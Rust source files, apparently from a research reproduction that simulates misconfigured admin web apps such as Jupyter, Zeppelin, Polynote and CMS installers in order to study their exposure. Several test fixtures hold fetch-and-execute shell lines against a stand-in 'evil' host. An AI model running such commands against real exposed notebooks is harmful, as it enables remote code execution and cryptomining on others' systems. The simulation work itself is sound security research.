            | AppId::JupyterNotebook
            | AppId::Polynote
            | AppId::Docker
            | AppId::Kubernetes => !self.auth_enabled,
            AppId::WordPress | AppId::Grav | AppId::Drupal => !self.installed,
            // Joomla ≥ 3.7.4 requires proof of server ownership during a
            // remote-DB installation, defeating installation hijacks.
            AppId::Joomla => !self.installed && version.triple() < (3, 7, 4),
            AppId::Consul => self.script_checks,
            AppId::PhpMyAdmin => self.allow_no_password,
            // Adminer rejects empty passwords outright since 4.6.3.
            AppId::Adminer => self.allow_no_password && version.triple() < (4, 6, 3),
            AppId::Ajenti => self.autologin,
            // Out-of-scope applications are never vulnerable to MAVs.
            AppId::Gitlab
            | AppId::Drone
            | AppId::Travis
            | AppId::Ghost
            | AppId::SparkNotebook
            | AppId::VestaCp
            | AppId::OmniDb => false,
        }
    }

    /// Whether this configuration differs from the factory default of
    /// `app` at `version` (the paper's "explicitly modified" class in
    /// Figure 2's right column).
    pub fn is_modified_from_default(&self, app: AppId, version: &Version) -> bool {
        let default = AppConfig::default_for(app, version);
        // Installation progress is a lifecycle step, not a configuration
        // change; ignore `installed` when comparing.
        AppConfig {
            installed: false,
            ..*self
        } != AppConfig {
            installed: false,
            ..default
        }
    }

    const SECURE_BASE: AppConfig = AppConfig {
        auth_enabled: true,
        installed: true,
        script_checks: false,
        allow_no_password: false,
        autologin: false,
    };
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::version::release_history;

    fn latest(app: AppId) -> Version {
        *release_history(app).last().unwrap()
    }

    fn oldest(app: AppId) -> Version {
        release_history(app)[0]
    }

    #[test]
    fn defaults_match_paper_postures() {
        // Insecure by default: GoCD, Hadoop, Nomad, Zeppelin, Polynote,
        // Docker (exposed API has no auth).
        for app in [
            AppId::Gocd,
            AppId::Hadoop,
            AppId::Nomad,
            AppId::Zeppelin,
            AppId::Polynote,
            AppId::Docker,
        ] {
            let v = latest(app);
            let cfg = AppConfig::default_for(app, &v);
            assert!(
                cfg.is_vulnerable(app, &v),
                "{app} should be vulnerable by default"
            );
        }
        // Secure by default: Kubernetes, Consul, J-Lab, Ajenti, phpMyAdmin.
        for app in [
            AppId::Kubernetes,
            AppId::Consul,
            AppId::JupyterLab,
            AppId::Ajenti,
            AppId::PhpMyAdmin,
        ] {
            let v = latest(app);
            let cfg = AppConfig::default_for(app, &v);
            assert!(
                !cfg.is_vulnerable(app, &v),
                "{app} should be secure by default"
            );
        }
    }

    #[test]
    fn changed_over_time_flips_with_version() {
        for app in [AppId::Jenkins, AppId::JupyterNotebook, AppId::Adminer] {
            let old = oldest(app);
            let new = latest(app);
            assert!(
                AppConfig::default_for(app, &old).is_vulnerable(app, &old),
                "{app} old default should be vulnerable"
            );
            assert!(
                !AppConfig::default_for(app, &new).is_vulnerable(app, &new),
                "{app} new default should be secure"
            );
        }
    }

    #[test]
    fn cms_pre_install_is_the_vulnerability() {
        let v = latest(AppId::WordPress);
        let fresh = AppConfig::default_for(AppId::WordPress, &v);
        assert!(!fresh.installed);
        assert!(fresh.is_vulnerable(AppId::WordPress, &v));
        let done = AppConfig {
            installed: true,
            ..fresh
        };
        assert!(!done.is_vulnerable(AppId::WordPress, &v));
    }

    #[test]
    fn joomla_countermeasure_since_374() {
        let h = release_history(AppId::Joomla);
        let before = h.iter().find(|v| v.triple() == (3, 7, 0)).unwrap();
        let after = h.iter().find(|v| v.triple() == (3, 8, 0)).unwrap();
        let fresh = AppConfig {
            installed: false,
            ..AppConfig::SECURE_BASE
        };
        assert!(fresh.is_vulnerable(AppId::Joomla, before));
        assert!(!fresh.is_vulnerable(AppId::Joomla, after));
    }

    #[test]
    fn vulnerable_for_always_produces_a_mav_for_in_scope_apps() {
        for app in AppId::in_scope() {
            // Adminer/Joomla need an old-enough version for the MAV to
            // exist at all.
            let v = match app {
                AppId::Adminer | AppId::Joomla => oldest(app),
                _ => latest(app),
            };
            let cfg = AppConfig::vulnerable_for(app, &v);
            assert!(
                cfg.is_vulnerable(app, &v),
                "{app} vulnerable_for not vulnerable"
            );
        }
    }

    #[test]
    fn secure_for_never_produces_a_mav() {
        for app in AppId::all() {
            for v in [oldest(app), latest(app)] {
                let cfg = AppConfig::secure_for(app, &v);
                assert!(!cfg.is_vulnerable(app, &v), "{app} secure_for vulnerable");
            }
        }
    }

    #[test]
    fn out_of_scope_apps_are_never_vulnerable() {
        for app in [AppId::Gitlab, AppId::Ghost, AppId::VestaCp, AppId::OmniDb] {
            let v = latest(app);
            let cfg = AppConfig {
                auth_enabled: false,
                installed: false,
                ..AppConfig::SECURE_BASE
            };
            assert!(!cfg.is_vulnerable(app, &v));
        }
    }

    #[test]
    fn modification_detection_ignores_install_progress() {
        let v = latest(AppId::WordPress);
        let mut cfg = AppConfig::default_for(AppId::WordPress, &v);
        assert!(!cfg.is_modified_from_default(AppId::WordPress, &v));
        cfg.installed = true;
        assert!(!cfg.is_modified_from_default(AppId::WordPress, &v));

        let v = latest(AppId::Consul);
        let mut cfg = AppConfig::default_for(AppId::Consul, &v);
        cfg.script_checks = true;
        assert!(cfg.is_modified_from_default(AppId::Consul, &v));
    }
}
