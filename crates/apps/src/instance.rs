//! Factory for application instances.

use crate::catalog::AppId;
use crate::ci::{Gocd, Jenkins};
use crate::cm::{Consul, Docker, Hadoop, Kubernetes, Nomad};
use crate::cms::{Drupal, Grav, Joomla, WordPress};
use crate::config::AppConfig;
use crate::cp::{Adminer, Ajenti, PhpMyAdmin};
use crate::generic::LoginWalled;
use crate::nb::{Jupyter, Polynote, Zeppelin};
use crate::traits::WebApp;
use crate::version::Version;

/// Build a behavioural instance of `app` at `version` with `config`.
pub fn build_instance(app: AppId, version: Version, config: AppConfig) -> Box<dyn WebApp> {
    match app {
        AppId::Jenkins => Box::new(Jenkins::new(version, config)),
        AppId::Gocd => Box::new(Gocd::new(version, config)),
        AppId::WordPress => Box::new(WordPress::new(version, config)),
        AppId::Grav => Box::new(Grav::new(version, config)),
        AppId::Joomla => Box::new(Joomla::new(version, config)),
        AppId::Drupal => Box::new(Drupal::new(version, config)),
        AppId::Kubernetes => Box::new(Kubernetes::new(version, config)),
        AppId::Docker => Box::new(Docker::new(version, config)),
        AppId::Consul => Box::new(Consul::new(version, config)),
        AppId::Hadoop => Box::new(Hadoop::new(version, config)),
        AppId::Nomad => Box::new(Nomad::new(version, config)),
        AppId::JupyterLab | AppId::JupyterNotebook => Box::new(Jupyter::new(app, version, config)),
        AppId::Zeppelin => Box::new(Zeppelin::new(version, config)),
        AppId::Polynote => Box::new(Polynote::new(version, config)),
        AppId::Ajenti => Box::new(Ajenti::new(version, config)),
        AppId::PhpMyAdmin => Box::new(PhpMyAdmin::new(version, config)),
        AppId::Adminer => Box::new(Adminer::new(version, config)),
        AppId::Gitlab
        | AppId::Drone
        | AppId::Travis
        | AppId::Ghost
        | AppId::SparkNotebook
        | AppId::VestaCp
        | AppId::OmniDb => Box::new(LoginWalled::new(app, version, config)),
    }
}

/// Build the newest release of `app` in a configuration that carries a
/// MAV. For applications whose vulnerability ceased to exist in newer
/// releases (Joomla ≥ 3.7.4, Adminer ≥ 4.6.3) the newest *vulnerable*
/// release is used instead.
pub fn vulnerable_instance(app: AppId) -> Box<dyn WebApp> {
    let history = crate::version::release_history(app);
    let version = *history
        .iter()
        .rev()
        .find(|v| AppConfig::vulnerable_for(app, v).is_vulnerable(app, v))
        .unwrap_or_else(|| panic!("{app} has no vulnerable configuration in any release"));
    build_instance(app, version, AppConfig::vulnerable_for(app, &version))
}

/// Build the newest release of `app` in a secured configuration.
pub fn secure_instance(app: AppId) -> Box<dyn WebApp> {
    let history = crate::version::release_history(app);
    let version = *history.last().expect("non-empty history");
    build_instance(app, version, AppConfig::secure_for(app, &version))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::version::release_history;

    #[test]
    fn convenience_builders() {
        for app in AppId::in_scope() {
            assert!(vulnerable_instance(app).is_vulnerable(), "{app}");
            if app != AppId::Polynote {
                assert!(!secure_instance(app).is_vulnerable(), "{app}");
            }
        }
    }

    #[test]
    fn factory_builds_every_app() {
        for app in AppId::all() {
            let v = *release_history(app).last().unwrap();
            let inst = build_instance(app, v, AppConfig::default_for(app, &v));
            assert_eq!(inst.id(), app);
            assert_eq!(inst.version().triple(), v.triple());
        }
    }

    #[test]
    fn vulnerable_instances_report_vulnerable() {
        for app in AppId::in_scope() {
            // Old versions guarantee the MAV exists even for
            // changed-over-time apps.
            let v = release_history(app)[0];
            let inst = build_instance(app, v, AppConfig::vulnerable_for(app, &v));
            assert!(
                inst.is_vulnerable(),
                "{app} vulnerable instance not vulnerable"
            );
        }
    }

    #[test]
    fn ground_truth_matches_config_level_prediction() {
        // Polynote is the documented exception: the model pins
        // `auth_enabled=false` because the product has no auth at all.
        for app in AppId::all().filter(|a| *a != AppId::Polynote) {
            for vulnerable in [false, true] {
                let v = release_history(app)[0];
                let cfg = if vulnerable {
                    AppConfig::vulnerable_for(app, &v)
                } else {
                    AppConfig::secure_for(app, &v)
                };
                let inst = build_instance(app, v, cfg);
                assert_eq!(
                    inst.is_vulnerable(),
                    cfg.is_vulnerable(app, &v),
                    "{app} config/instance ground truth diverges"
                );
            }
        }
    }
}
