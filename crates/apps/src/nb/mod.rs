//! Notebooks: Jupyter Lab, Jupyter Notebook, Zeppelin, Polynote (in
//! scope); Spark Notebook (discontinued, out of scope).

pub mod jupyter;
pub mod polynote;
pub mod zeppelin;

pub use jupyter::Jupyter;
pub use polynote::Polynote;
pub use zeppelin::Zeppelin;
