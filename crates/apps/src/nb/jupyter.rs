//! Jupyter Lab / Jupyter Notebook model (shared implementation; the two
//! products differ in branding and defaults).
//!
//! * Notebook < 4.3 (December 2016) required no authentication; 4.3
//!   introduced token auth by default. Lab always shipped with token
//!   auth. Both can be misconfigured by setting an *empty password*
//!   (`--NotebookApp.password=`), which disables all authentication —
//!   the StackOverflow workaround the paper quotes.
//! * Detection: `GET /api/terminals` contains 'JupyterLab' /
//!   'Jupyter Notebook' respectively.
//! * Abuse surface: the web terminal executes shell commands.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Jupyter {
    pub(crate) base: BaseApp,
    terminals: u32,
}

impl Jupyter {
    /// `id` must be [`AppId::JupyterLab`] or [`AppId::JupyterNotebook`].
    pub fn new(id: AppId, version: Version, config: AppConfig) -> Self {
        assert!(
            matches!(id, AppId::JupyterLab | AppId::JupyterNotebook),
            "Jupyter models only the two Jupyter products"
        );
        Jupyter {
            base: BaseApp::new(id, version, config),
            terminals: 0,
        }
    }

    fn product(&self) -> &'static str {
        match self.base.id {
            AppId::JupyterLab => "JupyterLab",
            _ => "Jupyter Notebook",
        }
    }

    fn open(&self) -> bool {
        !self.base.config.auth_enabled
    }

    fn login_redirect(&self, from: &str) -> Response {
        Response::redirect(&format!("/login?next={from}"))
    }

    /// Login page. The page carries product branding (so stage II can
    /// identify secure instances for the prevalence counts) but the
    /// detection plugins never see it: they probe `/api/terminals`, which
    /// answers 403 without markers when auth is on.
    fn login_page(&self) -> Response {
        let brand = match self.base.id {
            AppId::JupyterLab => {
                "<span class=\"brand\">JupyterLab</span>\
                                  <script src=\"/lab/static/login.js\"></script>"
            }
            _ => {
                "<span class=\"brand\">Jupyter Notebook</span>\
                  <script src=\"/static/notebook/js/login.js\"></script>"
            }
        };
        Response::html(html::page(
            "Sign in",
            &format!(
                "{brand}<form action=\"/login\" method=\"post\" id=\"login\">\
                 <label>Password or token:</label>\
                 <input type=\"password\" name=\"password\"><button>Log in</button></form>\
                 <p>Token authentication is enabled</p>"
            ),
        ))
    }

    fn tree_page(&self) -> Response {
        let (title, body) = match self.base.id {
            AppId::JupyterLab => (
                "JupyterLab",
                "<div id=\"jupyter-config-data\" data-app=\"@jupyterlab/application\">\
                 </div><script src=\"/lab/static/main.js\"></script>",
            ),
            _ => (
                "Home Page - Select or create a notebook",
                "<div id=\"jupyter-config-data\" data-app=\"notebook\"></div>\
                 <script src=\"/static/notebook/js/main.js\"></script>\
                 <span>Jupyter Notebook</span><div class=\"nbextensions\"></div>",
            ),
        };
        Response::html(html::page_with_head(
            title,
            &html::css("/static/style.css"),
            body,
        ))
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        let open = self.open();
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/")
            | (nokeys_http::Method::Get, "/tree")
            | (nokeys_http::Method::Get, "/lab") => {
                if open {
                    self.tree_page().into()
                } else {
                    self.login_redirect(req.path()).into()
                }
            }
            (nokeys_http::Method::Get, "/login") => self.login_page().into(),
            (nokeys_http::Method::Get, "/api/terminals") => {
                if open {
                    Response::json(format!(
                        "{{\"server\":\"{}\",\"terminals\":[]}}",
                        self.product()
                    ))
                    .into()
                } else {
                    Response::new(StatusCode::FORBIDDEN)
                        .with_header("Content-Type", "application/json")
                        .with_body(r#"{"message":"Forbidden"}"#)
                        .into()
                }
            }
            (nokeys_http::Method::Post, "/api/terminals") => {
                if open {
                    self.terminals += 1;
                    HandleOutcome::with_event(
                        Response::json(format!("{{\"name\":\"{}\"}}", self.terminals)),
                        AppEvent::TerminalOpened,
                    )
                } else {
                    Response::new(StatusCode::FORBIDDEN).into()
                }
            }
            (nokeys_http::Method::Post, p) if p.starts_with("/api/terminals/") => {
                if !open {
                    return Response::new(StatusCode::FORBIDDEN).into();
                }
                let command = req.body_text();
                if command.trim() == "shutdown" || command.contains("shutdown -h") {
                    HandleOutcome::with_event(
                        Response::text("shutting down"),
                        AppEvent::ShutdownRequested,
                    )
                } else {
                    HandleOutcome::with_event(
                        Response::text("$ "),
                        AppEvent::CommandExecuted { command },
                    )
                }
            }
            (nokeys_http::Method::Get, "/api/status") => {
                if open {
                    Response::json(format!(
                        "{{\"started\":\"2021-06-09T00:00:00Z\",\"version\":\"{}\"}}",
                        self.base.version.number()
                    ))
                    .into()
                } else {
                    Response::new(StatusCode::FORBIDDEN).into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.terminals = 0;
    }
}

impl_webapp!(Jupyter);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn notebook_at(triple: (u16, u16, u16)) -> Jupyter {
        let v = *release_history(AppId::JupyterNotebook)
            .iter()
            .find(|v| v.triple() == triple)
            .unwrap();
        Jupyter::new(
            AppId::JupyterNotebook,
            v,
            AppConfig::default_for(AppId::JupyterNotebook, &v),
        )
    }

    #[test]
    fn old_notebook_is_open_by_default() {
        let mut app = notebook_at((4, 2, 0));
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/api/terminals").response.body_text();
        assert!(body.contains("Jupyter Notebook"));
    }

    #[test]
    fn notebook_43_requires_token() {
        let mut app = notebook_at((4, 3, 0));
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/api/terminals");
        assert_eq!(out.response.status.as_u16(), 403);
        assert!(!out.response.body_text().contains("Jupyter Notebook"));
    }

    #[test]
    fn empty_password_misconfiguration_reopens_new_versions() {
        let v = *release_history(AppId::JupyterNotebook).last().unwrap();
        let cfg = AppConfig::vulnerable_for(AppId::JupyterNotebook, &v);
        let mut app = Jupyter::new(AppId::JupyterNotebook, v, cfg);
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/api/terminals").response.body_text();
        assert!(body.contains("Jupyter Notebook"));
    }

    #[test]
    fn lab_marker_differs_from_notebook() {
        let v = *release_history(AppId::JupyterLab).last().unwrap();
        let cfg = AppConfig::vulnerable_for(AppId::JupyterLab, &v);
        let mut app = Jupyter::new(AppId::JupyterLab, v, cfg);
        let body = DRIVER.get(&mut app, "/api/terminals").response.body_text();
        assert!(body.contains("JupyterLab"));
        assert!(!body.contains("Jupyter Notebook"));
    }

    #[test]
    fn terminal_executes_commands() {
        let mut app = notebook_at((4, 2, 0));
        let out = DRIVER.post(&mut app, "/api/terminals", "");
        assert!(matches!(out.events[0], AppEvent::TerminalOpened));
        let out = DRIVER.post(
            &mut app,
            "/api/terminals/1",
            "wget http://evil/min.sh -O- | sh",
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("min.sh")
        ));
    }

    #[test]
    fn vigilante_shutdown_is_recognized() {
        let v = *release_history(AppId::JupyterLab).last().unwrap();
        let mut app = Jupyter::new(
            AppId::JupyterLab,
            v,
            AppConfig::vulnerable_for(AppId::JupyterLab, &v),
        );
        let out = DRIVER.post(&mut app, "/api/terminals/1", "shutdown");
        assert!(matches!(out.events[0], AppEvent::ShutdownRequested));
    }

    #[test]
    fn login_page_brands_but_api_stays_markerless() {
        let mut app = notebook_at((4, 3, 0));
        let out = DRIVER.get(&mut app, "/");
        assert!(out.response.is_followable_redirect());
        // Stage II can identify the product from the login page...
        let login = DRIVER.get(&mut app, "/login").response.body_text();
        assert!(login.contains("Jupyter Notebook"));
        // ...but the detection endpoint carries no marker when secured.
        let api = DRIVER.get(&mut app, "/api/terminals").response.body_text();
        assert!(!api.contains("Jupyter Notebook"));
    }
}
