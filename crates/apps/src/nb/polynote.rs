//! Polynote model.
//!
//! * Ships with no authentication mechanism at all; the download page
//!   warns that it "relies entirely on the user deploying and configuring
//!   it in a secure way". Every Internet-exposed instance the paper found
//!   was vulnerable (8 of 8).
//! * Detection: `GET /` contains `<title>Polynote</title>`.
//! * Abuse surface: notebook cells execute Scala/Python — i.e. arbitrary
//!   code.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Polynote {
    pub(crate) base: BaseApp,
}

impl Polynote {
    pub fn new(version: Version, config: AppConfig) -> Self {
        // Polynote has no auth switch; any configuration is vulnerable.
        let config = AppConfig {
            auth_enabled: false,
            ..config
        };
        Polynote {
            base: BaseApp::new(AppId::Polynote, version, config),
        }
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::html(html::page_with_head(
                "Polynote",
                &format!(
                    "{}\n<meta name=\"polynote-config\" content=\"{}\">",
                    html::script("/static/dist/main.js"),
                    self.base.version.number()
                ),
                "<div id=\"Main\" data-polynote=\"app\">polynote</div>",
            ))
            .into(),
            (nokeys_http::Method::Get, "/notebooks") => Response::json("[]").into(),
            (nokeys_http::Method::Post, p) if p.starts_with("/notebooks/") => {
                HandleOutcome::with_event(
                    Response::json("{\"status\":\"queued\"}"),
                    AppEvent::CommandExecuted {
                        command: req.body_text(),
                    },
                )
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {}
}

impl_webapp!(Polynote);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn make() -> Polynote {
        let v = *release_history(AppId::Polynote).last().unwrap();
        Polynote::new(v, AppConfig::default_for(AppId::Polynote, &v))
    }

    #[test]
    fn always_vulnerable() {
        let v = *release_history(AppId::Polynote).last().unwrap();
        // Even a "secure" config cannot protect Polynote.
        let app = Polynote::new(v, AppConfig::secure_for(AppId::Polynote, &v));
        assert!(app.is_vulnerable());
        let mut app = make();
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("<title>Polynote</title>"));
    }

    #[test]
    fn cells_execute_code() {
        let mut app = make();
        let out = DRIVER.post(&mut app, "/notebooks/nb1/run", "import sys; exec(payload)");
        assert!(matches!(&out.events[0], AppEvent::CommandExecuted { .. }));
    }
}
