//! Apache Zeppelin model.
//!
//! * No authentication by default (Shiro must be configured manually).
//! * Detection: `GET /api/notebook` contains `{"status":"OK",`.
//! * Abuse surface: paragraphs execute code (the `%sh` interpreter runs
//!   shell commands directly).

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response, StatusCode};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Zeppelin {
    pub(crate) base: BaseApp,
    notes: Vec<String>,
}

impl Zeppelin {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Zeppelin {
            base: BaseApp::new(AppId::Zeppelin, version, config),
            notes: Vec::new(),
        }
    }

    fn open(&self) -> bool {
        !self.base.config.auth_enabled
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::html(html::page_with_head(
                "Apache Zeppelin",
                &html::script("/app/home/home.html.js"),
                &format!(
                    "<div ng-app=\"zeppelinWebApp\" class=\"zeppelin-web\">\
                     Apache Zeppelin {}</div>",
                    self.base.version.number()
                ),
            ))
            .into(),
            (nokeys_http::Method::Get, "/api/version") => Response::json(format!(
                "{{\"status\":\"OK\",\"message\":\"Zeppelin version\",\"body\":{{\"version\":\"{}\"}}}}",
                self.base.version.number()
            ))
            .into(),
            (nokeys_http::Method::Get, "/api/notebook") => {
                if self.open() {
                    Response::json("{\"status\":\"OK\",\"message\":\"\",\"body\":[]}").into()
                } else {
                    Response::new(StatusCode::FORBIDDEN)
                        .with_header("Content-Type", "application/json")
                        .with_body(r#"{"status":"FORBIDDEN","message":"Authentication required"}"#)
                        .into()
                }
            }
            (nokeys_http::Method::Post, "/api/notebook") => {
                if self.open() {
                    self.notes.push(req.body_text());
                    Response::json("{\"status\":\"OK\",\"body\":\"note-1\"}").into()
                } else {
                    Response::new(StatusCode::FORBIDDEN).into()
                }
            }
            (nokeys_http::Method::Post, p) if p.starts_with("/api/notebook/job/") => {
                if self.open() {
                    let command = req.body_text();
                    HandleOutcome::with_event(
                        Response::json("{\"status\":\"OK\"}"),
                        AppEvent::CommandExecuted { command },
                    )
                } else {
                    Response::new(StatusCode::FORBIDDEN).into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.notes.clear();
    }
}

impl_webapp!(Zeppelin);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn default_latest() -> Zeppelin {
        let v = *release_history(AppId::Zeppelin).last().unwrap();
        Zeppelin::new(v, AppConfig::default_for(AppId::Zeppelin, &v))
    }

    #[test]
    fn open_by_default_with_status_ok() {
        let mut app = default_latest();
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/api/notebook").response.body_text();
        assert!(body.starts_with("{\"status\":\"OK\","), "{body}");
    }

    #[test]
    fn shiro_protected_instance_forbids() {
        let v = *release_history(AppId::Zeppelin).last().unwrap();
        let mut app = Zeppelin::new(v, AppConfig::secure_for(AppId::Zeppelin, &v));
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/api/notebook");
        assert_eq!(out.response.status.as_u16(), 403);
        assert!(!out.response.body_text().starts_with("{\"status\":\"OK\","));
    }

    #[test]
    fn paragraph_run_is_code_execution() {
        let mut app = default_latest();
        let _ = DRIVER.post(&mut app, "/api/notebook", "{\"name\":\"n\"}");
        let out = DRIVER.post(&mut app, "/api/notebook/job/note-1", "%sh curl evil | sh");
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("%sh")
        ));
    }

    #[test]
    fn ui_has_angular_markers() {
        let mut app = default_latest();
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("zeppelinWebApp"));
        assert!(body.contains("Apache Zeppelin"));
    }
}
