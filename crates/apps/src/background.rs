//! Non-AWE background services populating the simulated Internet.
//!
//! The vast majority of the 64M HTTP responses in Table 2 come from hosts
//! that run none of the studied applications. These handlers give the
//! prefilter something realistic to discard.

use nokeys_http::{Request, Response, StatusCode};
use serde::{Deserialize, Serialize};
use std::net::Ipv4Addr;

/// The background species present in the simulated universe.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum BackgroundKind {
    /// Default nginx welcome page.
    NginxDefault,
    /// Default Apache httpd page.
    ApacheDefault,
    /// A small static business/personal website.
    StaticSite,
    /// A JSON API that answers everything with a generic envelope.
    JsonApi,
    /// Responds to the TCP handshake but never with valid HTTP.
    NotHttp,
    /// Redirects every HTTP request to its HTTPS twin.
    RedirectToHttps,
}

impl BackgroundKind {
    pub const ALL: [BackgroundKind; 6] = [
        BackgroundKind::NginxDefault,
        BackgroundKind::ApacheDefault,
        BackgroundKind::StaticSite,
        BackgroundKind::JsonApi,
        BackgroundKind::NotHttp,
        BackgroundKind::RedirectToHttps,
    ];

    /// Whether this species produces a parseable HTTP response at all.
    pub fn speaks_http(self) -> bool {
        !matches!(self, BackgroundKind::NotHttp)
    }

    /// Produce the response of this background service.
    pub fn handle(self, req: &Request, _peer: Ipv4Addr) -> Response {
        match self {
            BackgroundKind::NginxDefault => Response::html(
                "<!DOCTYPE html>\n<html>\n<head><title>Welcome to nginx!</title></head>\n\
                 <body><h1>Welcome to nginx!</h1>\
                 <p>If you see this page, the nginx web server is successfully installed.</p>\
                 </body>\n</html>",
            )
            .with_header("Server", "nginx/1.18.0"),
            BackgroundKind::ApacheDefault => Response::html(
                "<!DOCTYPE html>\n<html>\n<head><title>Apache2 Ubuntu Default Page</title>\
                 </head>\n<body><h1>It works!</h1></body>\n</html>",
            )
            .with_header("Server", "Apache/2.4.41 (Ubuntu)"),
            BackgroundKind::StaticSite => {
                if req.path() == "/" {
                    Response::html(
                        "<!DOCTYPE html>\n<html><head><title>ACME Widgets</title></head>\
                         <body><h1>ACME Widgets Inc.</h1><p>Quality widgets since 1998.</p>\
                         </body></html>",
                    )
                } else {
                    Response::not_found()
                }
            }
            BackgroundKind::JsonApi => Response::json(format!(
                "{{\"status\":\"ok\",\"path\":\"{}\",\"service\":\"api-gateway\"}}",
                req.path()
            )),
            // Callers treat `NotHttp` specially; handing out a response
            // here would be a bug, so serve an empty 400 as a tripwire.
            BackgroundKind::NotHttp => Response::new(StatusCode::BAD_REQUEST),
            BackgroundKind::RedirectToHttps => Response::new(StatusCode::MOVED_PERMANENTLY)
                .with_header("Location", "https://example-cdn.invalid/"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn peer() -> Ipv4Addr {
        Ipv4Addr::new(198, 51, 100, 9)
    }

    #[test]
    fn defaults_pages_identify_their_servers() {
        let r = BackgroundKind::NginxDefault.handle(&Request::get("/"), peer());
        assert!(r.body_text().contains("nginx"));
        assert_eq!(r.headers.get("server"), Some("nginx/1.18.0"));
        let r = BackgroundKind::ApacheDefault.handle(&Request::get("/"), peer());
        assert!(r.body_text().contains("It works!"));
    }

    #[test]
    fn none_of_the_background_pages_match_awe_markers() {
        // A sample of prefilter markers that must not appear on noise
        // hosts — otherwise the prefilter would leak them into stage III.
        let markers = [
            "wp-json",
            "/static/yarn.css",
            "Jupyter",
            "certificates.k8s.io",
            "<title>Nomad</title>",
            "<title>Polynote</title>",
            "Joomla",
        ];
        for kind in BackgroundKind::ALL {
            if !kind.speaks_http() {
                continue;
            }
            let body = kind.handle(&Request::get("/"), peer()).body_text();
            for m in markers {
                assert!(!body.contains(m), "{kind:?} contains {m}");
            }
        }
    }

    #[test]
    fn static_site_404s_unknown_paths() {
        let r = BackgroundKind::StaticSite.handle(&Request::get("/wp-admin/install.php"), peer());
        assert_eq!(r.status.as_u16(), 404);
    }

    #[test]
    fn redirector_points_at_https() {
        let r = BackgroundKind::RedirectToHttps.handle(&Request::get("/x"), peer());
        assert!(r.is_followable_redirect());
        assert!(r.location().unwrap().starts_with("https://"));
    }
}
