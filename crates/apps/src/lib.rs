//! Behavioural models of the 25 administrative web endpoints (AWEs)
//! investigated by *No Keys to the Kingdom Required* (IMC 2022).
//!
//! Each application is modeled as a small HTTP state machine that
//!
//! * serves the identification markers used by the scanning pipeline's
//!   prefilter signatures,
//! * serves the exact detection endpoints the paper's Tsunami plugins
//!   check (Appendix Table 10), with version- and configuration-dependent
//!   behaviour,
//! * implements its abuse surface (system-command execution, API-based
//!   code execution, SQL execution or installation hijack), emitting
//!   [`events::AppEvent`]s that the honeypot monitor records, and
//! * exposes a static-asset corpus for the hash-based version
//!   fingerprinter.
//!
//! The models are *behavioural equivalents*, not reimplementations, of the
//! real products; `DESIGN.md` documents the modeling decisions.

pub mod assets;
pub mod background;
pub(crate) mod base;
pub mod catalog;
pub mod config;
pub mod events;
pub mod generic;
pub mod html;
pub mod instance;
pub mod traits;
pub mod version;

pub mod ci;
pub mod cm;
pub mod cms;
pub mod cp;
pub mod nb;

pub use catalog::{
    AppId, AppInfo, AttackVector, Category, DefaultPosture, Warning, CATALOG, SCAN_PORTS,
};
pub use config::AppConfig;
pub use events::{AppEvent, HandleOutcome};
pub use instance::{build_instance, secure_instance, vulnerable_instance};
pub use traits::{Driver, WebApp};
pub use version::{release_history, version_at, ReleaseDate, Version};
