//! Stage I throughput: masscan-style sweep of the tiny universe
//! (65,536 addresses × 12 ports = 786k probes per iteration).

use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use nokeys_bench::{tiny_space, tiny_transport};
use nokeys_scanner::{PortScanConfig, PortScanner};

fn bench(c: &mut Criterion) {
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_time()
        .build()
        .unwrap();
    let transport = tiny_transport(42);
